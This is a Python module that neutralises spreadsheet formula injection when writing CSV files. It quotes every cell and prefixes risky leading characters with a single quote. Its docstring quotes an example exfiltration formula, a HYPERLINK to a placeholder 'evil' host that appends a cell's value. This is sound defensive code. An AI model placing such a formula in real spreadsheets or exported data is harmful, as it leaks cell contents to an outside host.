"""CSV for spreadsheets: cells that a spreadsheet would run as a formula are neutralised.

A scraped title such as ``=HYPERLINK("http://evil/?"&A1)`` must arrive in Excel or LibreOffice as
text, not as a formula (OWASP "CSV Injection"): a cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return gets a leading single quote, and every cell is quoted.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text; numbers and None pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(out: TextIO, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """Write ``rows`` (only ``columns``) with a header, every cell quoted and made formula-safe."""
    writer = csv.DictWriter(out, columns, extrasaction="ignore", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    for row in rows:
        writer.writerow({key: safe_cell(row.get(key)) for key in columns})
